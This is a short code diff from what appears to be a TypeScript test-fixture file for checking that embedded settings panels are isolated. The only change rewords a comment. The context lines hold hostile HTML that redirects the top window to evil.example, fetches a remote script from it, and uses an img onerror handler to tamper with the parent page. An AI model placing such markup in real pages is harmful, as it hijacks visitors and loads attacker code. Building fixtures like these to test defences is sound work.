@@ -32,7 +32,7 @@ export const HOSTILE_ADDRESSES = {
   relative: '//evil.example/mirror',
 } as const satisfies Record<string, string>
 
-/** A settings panel that attacks whoever shows it. */
+/** A settings panel that attacks the page that shows it. */
 export const HOSTILE_PANEL = `<!doctype html><title>Settings</title>
 <script>top.location = 'https://evil.example/'; fetch('https://evil.example/script')</script>
 <img src="https://evil.example/image" onerror="parent.polluted = true">
